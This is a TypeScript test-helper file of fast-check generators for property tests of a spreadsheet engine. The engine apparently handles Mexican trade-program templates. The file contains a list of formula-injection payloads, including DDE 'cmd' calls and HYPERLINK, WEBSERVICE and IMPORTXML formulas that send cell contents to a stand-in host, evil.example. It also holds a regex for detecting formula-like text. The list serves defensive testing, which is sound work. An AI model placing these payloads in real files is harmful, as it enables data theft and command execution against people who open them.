/**
 * Generators shared by the trust properties: what a user (or a hostile file) can put in a cell, per template field —
 * plausible values (so the engine runs deep: real program types, dates, sectors…) mixed with garbage (error values,
 * text in number cells, impossible dates, 100,000-character strings, text that looks like a formula).
 */
import fc from "fast-check";
import { PROSEC_SECTORS, UNITS } from "../../src/domain/catalogs";
import { EXPORTER_TYPES, MODALITIES, PROGRAM_TYPES } from "../../src/domain/programs";
import { NAMED_CELLS, TABLES, type FieldType } from "../../src/workbook/layout";
import type { CellValue } from "../../src/workbook/port";

// ─── text that a spreadsheet would take for a formula (CSV/formula injection) ────────────────────────────────────────

/** Classic formula-injection payloads, including the tab/CR/LF/space-prefixed variants that slip past naive checks. */
export const INJECTION_PAYLOADS: readonly string[] = [
  "=1+1",
  '=HYPERLINK("http://evil.example/?leak="&B6,"Clic aquí")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "@usuario",
  "-2+3",
  "+52 55 1234 5678",
  "\t=cmd|' /C calc'!A0",
  "\r=1+1",
  "\n=1+1",
  " =1+1",
  "\u00a0=1+1",
  "\t@SUM(1+1)",
  "\r\n+cmd|'/C notepad'!A0",
  '=WEBSERVICE("http://evil.example/"&B6)',
  '=IMPORTXML(CONCAT("http://evil.example/?v=",B7),"//a")',
  '=DDE("cmd";"/C calc";"!A0")',
  "=1+1\n=2+2",
  "'=ya con apóstrofo",
  "=",
  "+",
  "-",
  "@",
];

/** What a spreadsheet may take for a formula if given as a value without a guard (leading blanks included). */
export const FORMULA_LIKE = /^[\s\u00a0\u2000-\u200b\u3000\ufeff]*[=+\-@]/;

export const formulaPrefix = fc.constantFrom("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "\u00a0=", "\t@", "\t+", "\t-");

/** Any text an injection attempt could use: a known payload or a dangerous prefix plus arbitrary text. */
export const formulaLike: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...INJECTION_PAYLOADS),
  fc.tuple(formulaPrefix, fc.string({ maxLength: 40 })).map(([p, s]) => p + s),
);

// ─── cell values ────────────────────────────────────────────────────────────────────────────────────────────────────

export const ERROR_CODES = ["#N/A", "#REF!", "#VALUE!", "#NAME?", "#DIV/0!", "#NUM!", "#NULL!", "#SPILL!", "#CALC!", "#GETTING_DATA"] as const;
/** The error values an .xlsx file can store (the dynamic-array ones are Excel 365 only; ExcelJS writes them as is). */
export const FILE_ERROR_CODES = ["#N/A", "#REF!", "#VALUE!", "#NAME?", "#DIV/0!", "#NUM!", "#NULL!"] as const;

export const errorValue = (codes: readonly string[] = ERROR_CODES) => fc.constantFrom(...codes).map((error) => ({ error }));

/** Strings of 32,768–100,000 characters (beyond Excel's 32,767 per cell), some of them formula-like. */
export const hugeString: fc.Arbitrary<string> = fc
  .tuple(fc.constantFrom("", "=", "@", "+", "x", "2025-"), fc.constantFrom("A", "9", "ñ", " ", "=1+"), fc.oneof(fc.constant(100_000), fc.integer({ min: 32_768, max: 100_000 })))
  .map(([prefix, unit, n]) => prefix + unit.repeat(Math.ceil(n / unit.length)).slice(0, n - prefix.length));

/** Excel date serials (1900 system) from 1900 to 9999, whole and with a time of day. */
export const dateSerial = fc.oneof(fc.integer({ min: 1, max: 2_958_465 }), fc.double({ min: 1, max: 2_958_465.99, noNaN: true }), fc.integer({ min: 41_000, max: 48_000 }));

/** Text a user types where a date goes. */
export const dateText = fc.oneof(
  fc.tuple(fc.integer({ min: 1990, max: 2040 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 0, max: 32 })).map(([y, m, d]) => `${y}-${String(m).padStart(2, "0")}-${String(d).padStart(2, "0")}`),
  fc.tuple(fc.integer({ min: 0, max: 32 }), fc.integer({ min: 0, max: 13 }), fc.integer({ min: 1990, max: 2040 }), fc.constantFrom("/", "-", ".")).map(([d, m, y, sep]) => `${d}${sep}${m}${sep}${y}`),
  fc.constantFrom("31/02/2025", "29/02/2024", "29/02/2025", "2025-02-30", "mañana", "30 de mayo", "2025/05/30", "0/0/0000"),
);

/** Text a user types where a number goes. */
export const numberText = fc.oneof(
  fc.constantFrom("1,234.50", "$ 1234", " 12 ", "12 %", "1e5", "1.234,50", "-", "+5", "$", "1,2,3", "０１２", "٣", "Infinity", "NaN", "0x10", "١٢"),
  fc.double({ noNaN: true, noDefaultInfinity: true }).map(String),
  fc.integer().map((n) => n.toLocaleString("en-US")),
);

/** Numbers, including the ones no cell should hold (NaN, ±Infinity, -0) unless `finite`. */
export const anyNumber = (finite = false) =>
  fc.oneof(
    fc.integer({ min: -1_000_000_000, max: 1_000_000_000 }),
    fc.double({ noNaN: finite, noDefaultInfinity: finite, min: finite ? -1e300 : undefined, max: finite ? 1e300 : undefined }),
    dateSerial,
    fc.constantFrom(0, 1, -1, 2024, 2025, 2026, 0.5, 1e15, 2 ** 53, Number.EPSILON),
  );

// eslint-disable-next-line no-control-regex -- the characters XML 1.0 forbids
const XML_INVALID = /[\u0000-\u0008\u000b\u000c\u000e-\u001f\ufffe\uffff]|[\ud800-\udbff](?![\udc00-\udfff])|(?<![\ud800-\udbff])[\udc00-\udfff]/g;

/** Strings of every kind: unicode, control characters, lone surrogates, whitespace, look-alikes of other types. */
export const anyString = (xmlSafe = false): fc.Arbitrary<string> => {
  const s = fc.oneof(
    { weight: 3, arbitrary: fc.string({ maxLength: 30 }) },
    { weight: 2, arbitrary: fc.string({ unit: "grapheme", maxLength: 20 }) },
    { weight: 1, arbitrary: fc.string({ unit: "binary", maxLength: 20 }) },
    { weight: 2, arbitrary: formulaLike },
    { weight: 1, arbitrary: dateText },
    { weight: 1, arbitrary: numberText },
    { weight: 1, arbitrary: fc.constantFrom("", " ", "\t", "\n", "Sí", "no", "X", "TRUE", "falso", "#N/A", "'", "''", "—", "null", "undefined", "__proto__", "constructor", "toString") },
    { weight: 1, arbitrary: hugeString },
  );
  return xmlSafe ? s.map((x) => x.replace(XML_INVALID, "?")) : s;
};

export interface CellOptions {
  /** Only what an .xlsx file can hold: finite numbers, XML-safe strings, the file error codes. */
  file?: boolean;
}

/** Any port cell value. */
export const anyCell = (o: CellOptions = {}): fc.Arbitrary<CellValue> =>
  fc.oneof(
    { weight: 3, arbitrary: fc.constant(null) },
    { weight: 3, arbitrary: anyNumber(!!o.file) },
    { weight: 4, arbitrary: anyString(!!o.file) },
    { weight: 1, arbitrary: fc.boolean() },
    { weight: 2, arbitrary: errorValue(o.file ? FILE_ERROR_CODES : ERROR_CODES) },
  );

// ─── plausible values per template field (so the engine gets past the first check) ──────────────────────────────────

const VALID_RFCS = ["SAT970701NN3", "SAT970701NN4", "XAXX010101000", "AAA010101AAA", "GODE561231GR8", "sat970701nn3", " SAT970701NN3 "];
const MODALITY_LIST = [...new Set(Object.values(MODALITIES).flat())];
const SECTOR_LABELS = PROSEC_SECTORS.map((s) => `${s.key} - ${s.name}`);
const UNIT_LABELS = UNITS.map((u) => `${u.key} - ${u.name}`);

function plausibleFor(type: FieldType | "stamp", key: string): fc.Arbitrary<CellValue> {
  switch (key) {
    case "company.rfc":
      return fc.constantFrom(...VALID_RFCS);
    case "company.name":
    case "description":
    case "note":
      return fc.oneof(fc.constantFrom("Manufacturas del Norte, S.A. de C.V.", "Café de Altura, S.P.R. de R.L.", "Tornillos"), fc.string({ maxLength: 30 }));
    case "company.consignment":
      return fc.constantFrom("Sí", "No", "si", "NO", true, false);
    case "filingYear":
    case "settings.linkedProsecMayFromYear":
      return fc.integer({ min: 2012, max: 2032 });
    case "type":
      return fc.constantFrom(...PROGRAM_TYPES, "immex", " Prosec ");
    case "number":
      return fc.oneof(fc.constantFrom("83-2019", "2019-8664", "AL-123", "ECEX-1"), fc.integer({ min: 1, max: 99_999 }));
    case "modality":
      return fc.constantFrom(...MODALITY_LIST);
    case "folio":
      return fc.oneof(fc.constantFrom("0201500100220250101000001"), fc.integer({ min: 0, max: 2 ** 50 }));
    case "sectors":
      return fc.array(fc.constantFrom(...PROSEC_SECTORS.map((s) => s.key)), { maxLength: 4 }).map((a) => a.join(", "));
    case "exporterType":
      return fc.constantFrom(...EXPORTER_TYPES, "Exportador directo");
    case "sector":
      return fc.oneof(fc.constantFrom(...SECTOR_LABELS), fc.constantFrom("XIX", "XXII", "Química"));
    case "tariffCode":
      return fc.oneof(fc.integer({ min: 1_000_000, max: 99_999_999 }).map((n) => String(n).padStart(8, "0")), fc.integer({ min: 1_000_000, max: 9_999_999 }), fc.constantFrom("0901.12.00", "2801.10.01"));
    case "unit":
      return fc.oneof(fc.constantFrom(...UNIT_LABELS), fc.constantFrom("Kilogramo", "pza", "Litros"));
    case "settings.altexIndirectFactor":
    case "settings.ecexMinExportShare":
      return fc.oneof(fc.double({ min: 0, max: 1, noNaN: true }), fc.constantFrom("80%", "0.8"));
  }
  switch (type) {
    case "date":
      return fc.oneof(fc.integer({ min: 42_000, max: 47_000 }), dateText);
    case "number":
    case "percent":
      return fc.oneof(fc.integer({ min: 0, max: 10_000_000 }), fc.double({ min: 0, max: 1e9, noNaN: true }));
    case "integer":
      return fc.integer({ min: 2012, max: 2032 });
    default:
      return fc.string({ maxLength: 20 });
  }
}

/** A value for one input field: plausible most of the time, anything otherwise. */
export function fieldValue(type: FieldType | "stamp", key: string, o: CellOptions = {}): fc.Arbitrary<CellValue> {
  return fc.oneof({ weight: 3, arbitrary: plausibleFor(type, key) }, { weight: 2, arbitrary: anyCell(o) });
}

/** Input named cells of the template (name → generator), most of them set. */
export const INPUT_NAMES = NAMED_CELLS.filter((n) => n.kind === "input");

export type NameValues = Record<string, CellValue>;
export type TableRows = Record<string, CellValue[][]>;

export function nameValues(o: CellOptions = {}): fc.Arbitrary<NameValues> {
  return fc.record(
    Object.fromEntries(INPUT_NAMES.map((n) => [n.name, fc.oneof({ weight: 1, arbitrary: fc.constant(null) }, { weight: 4, arbitrary: fieldValue(n.type, n.path ?? n.name, o) })])),
  ) as fc.Arbitrary<NameValues>;
}

/** Body rows of each table, one value per column of the layout (outputs left empty, or stale garbage). */
export function tableRows(o: CellOptions & { maxRows?: number; staleOutputs?: boolean } = {}): fc.Arbitrary<TableRows> {
  return fc.record(
    Object.fromEntries(
      TABLES.map((t) => {
        const row = fc.tuple(
          ...t.columns.map((c) =>
            c.kind === "input" ? fc.oneof({ weight: 1, arbitrary: fc.constant(null) }, { weight: 4, arbitrary: fieldValue(c.type, c.field ?? c.header, o) }) : o.staleOutputs ? fc.oneof(fc.constant(null), anyCell(o)) : fc.constant(null),
          ),
        );
        return [t.name, fc.array(row, { maxLength: o.maxRows ?? 6 })];
      }),
    ),
  ) as fc.Arbitrary<TableRows>;
}
